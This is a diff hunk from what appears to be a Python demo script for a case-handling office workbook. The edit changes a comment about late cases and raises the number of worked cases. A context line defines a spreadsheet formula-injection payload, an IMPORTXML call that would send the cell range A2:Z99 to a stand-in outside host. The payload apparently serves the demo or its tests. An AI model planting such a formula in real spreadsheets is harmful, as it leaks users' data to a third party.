@@ -72,8 +72,8 @@ WORKBOOK = "sapa-demo.xlsx"
 INJECTION = '=IMPORTXML("http://contoh.invalid/?d="&A2:Z99, "//a")'
 START = datetime(2026, 11, 20, 8, 15, 0)
 # The demo office at work: the first responses came in a month ago and were worked; the rest arrived in
-# the last hour (the quickest first contact is due in an hour): a few cases are late, not nearly all.
-WORKED = 7  # the cases the demo walks through the procedure (demo_walk.choose_cases)
+# the last hour (the quickest first contact is due in an hour): 5 of 37 cases are late, not nearly all.
+WORKED = 11  # the cases the demo walks (demo_walk.choose_cases) and the responses the Admin reviews
 FRESH_SPAN = timedelta(minutes=55)
 
 
